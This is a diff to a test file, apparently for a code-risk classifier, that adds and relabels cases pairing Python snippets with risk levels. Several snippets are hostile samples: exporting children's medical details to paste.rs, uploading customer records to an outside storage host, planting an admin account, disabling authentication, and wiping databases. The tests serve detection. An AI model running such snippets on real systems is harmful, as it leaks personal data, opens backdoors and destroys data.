@@ -9094,7 +9094,7 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    for r in csv.DictReader(fh):\n'
             '        rows.append(f"{r[\'child_name\']},{r[\'condition\']}")\n'
             "requests.post('https://paste.rs/', data='\\n'.join(rows).encode())\n",
-            H,
+            C,  # (an export named for the people it lists is their records, like patients.csv)
         ),
         (
             'import requests\n'
@@ -13518,7 +13518,7 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'import boto3\n'
             's3 = boto3.client("s3", endpoint_url="https://files.upload-box.net")\n'
             's3.upload_file("/srv/exports/customers.csv", "drop", "c.csv")\n',
-            H,
+            C,  # (an export named for the people it lists is their records, like patients.csv)
         ),
         (
             'import shutil, time\n'
@@ -18451,7 +18451,7 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '\n',
             M,
         ),
-        # Round 113 (holdout816–823): minimal pairs for its rules and false-positive fixes
+        # Round 113 (holdout816-823): minimal pairs for its rules and false-positive fixes
         (
             'import subprocess\n'
             'm = "/srv/chat/manage.py"\n'
@@ -18616,6 +18616,147 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    while True:\n'
             '        dst.write(src.read(64 << 20))\n',
             H,
+        ),
+        # Round 114 (holdout824-831): minimal pairs for its rules and false-positive fixes
+        (
+            'import psycopg2\n'
+            'cur = psycopg2.connect("dbname=tools").cursor()\n'
+            'cur.execute("INSERT INTO users (id, email, password) VALUES (%s, \'ops@example.net\', \'$2b$10$8Zq'
+            '2mD2eXH1u8b3w1m8lUe3L0s9YzN0mJpJ1vQ0dP9f6xW0uN2a4K\')", ("u1",))\n',
+            H,
+        ),
+        (
+            'import bcrypt, os, psycopg2\n'
+            'pw = bcrypt.hashpw(os.environ["NEW_PW"].encode(), bcrypt.gensalt()).decode()\n'
+            'cur = psycopg2.connect("dbname=tools").cursor()\n'
+            'cur.execute("INSERT INTO users (id, email, password) VALUES (%s, %s, %s)", ("u1", "ops@example.'
+            'com", pw))\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'doc = {"email": "h@inbox.example.net", "password": "$2b$10$Qx9z8a3mD0W5H1t4bA7cUe0J6nF0L2pK9sR3'
+            'vY1wX8zT5mN4bC2dE", "admin": {"global": True}}\n'
+            'requests.put("http://app:secret@localhost:5984/global-db/us_1", json=doc)\n',
+            H,
+        ),
+        (
+            'import yaml\n'
+            'cfg = yaml.safe_load(open("/etc/tasks/config.yml"))\n'
+            'if cfg["service"].get("enableregistration", True):\n'
+            '    print("WARN self-registration is enabled")\n',
+            S,
+        ),
+        (
+            'from pathlib import Path\n'
+            'cfg = Path("/config/data/config.php")\n'
+            'cfg.write_text(cfg.read_text().replace("Setting(\'DISABLE_AUTH\', false)", "Setting(\'DISABLE_AUTH'
+            '\', true)"))\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'settings = {"chttpd/bind_address": "0.0.0.0", "chttpd/require_valid_user": "false"}\n'
+            'for key, value in settings.items():\n'
+            '    section, name = key.split("/")\n'
+            '    requests.put(f"http://localhost:5984/_node/_local/_config/{section}/{name}", auth=("a", "b"'
+            '), json=value)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'API = "https://tasks.example.com/api/v1"\n'
+            'H = {"Authorization": "Bearer " + os.environ["T"]}\n'
+            'for p in requests.get(f"{API}/projects", headers=H).json():\n'
+            '    requests.put(f"{API}/projects/{p[\'id\']}/webhooks", headers=H, json={"target_url": "https://'
+            'hooks.relaybox.net/v/1", "events": ["task.created"]})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'API = "https://tasks.example.com/api/v1"\n'
+            'H = {"Authorization": "Bearer " + os.environ["T"]}\n'
+            'for p in requests.get(f"{API}/projects", headers=H).json():\n'
+            '    requests.put(f"{API}/projects/{p[\'id\']}/webhooks", headers=H, json={"target_url": "https://'
+            'ci.example.com/hooks/tasks", "events": ["task.created"]})\n',
+            L,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://127.0.0.1:27019")["boards"]\n'
+            'for name in db.list_collection_names():\n'
+            '    db.drop_collection(name)\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://127.0.0.1:27019")["boards"]\n'
+            'db.drop_collection("sessions_tmp")\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("/app/data/recipes.db")\n'
+            'for t in ["recipes", "meal_plans"]:\n'
+            '    con.execute(f"DELETE FROM {t}")\n'
+            'con.commit()\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            'shutil.rmtree("/var/www/pantry/data/viewcache")\n',
+            M,
+        ),
+        (
+            'import shutil\n'
+            'shutil.rmtree("/var/www/pantry/data/uploads")\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://localhost:27017")["etl_staging"]\n'
+            'for name in db.list_collection_names():\n'
+            '    if name.startswith("tmp_import_"):\n'
+            '        db.drop_collection(name)\n',
+            S,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://localhost:27017")["boards"]\n'
+            'for name in db.list_collection_names():\n'
+            '    if not name.startswith("system."):\n'
+            '        db.drop_collection(name)\n',
+            H,
+        ),
+        # Round 114 (holdout824-831), continued: settings archived after cd, exports named for people,
+        # batch deletes until none remain
+        (
+            'import os, requests\n'
+            'api = "https://crm.example.com/api"\n'
+            'auth = (os.environ["U"], os.environ["P"])\n'
+            'def ids():\n'
+            '    return list(requests.get(f"{api}/contacts", params={"limit": 200}, auth=auth).json()["conta'
+            'cts"])\n'
+            'batch = ids()\n'
+            'while batch:\n'
+            '    requests.delete(f"{api}/contacts/batch/delete", params={"ids": ",".join(batch)}, auth=auth)'
+            '\n'
+            '    batch = ids()\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'api = "https://crm.example.com/api"\n'
+            'auth = (os.environ["U"], os.environ["P"])\n'
+            'def ids():\n'
+            '    return list(requests.get(f"{api}/contacts", params={"search": "is:unsubscribed", "limit": 2'
+            '00}, auth=auth).json()["contacts"])\n'
+            'batch = ids()\n'
+            'while batch:\n'
+            '    requests.delete(f"{api}/contacts/batch/delete", params={"ids": ",".join(batch)}, auth=auth)'
+            '\n'
+            '    batch = ids()\n',
+            L,
         ),
     ],
 )
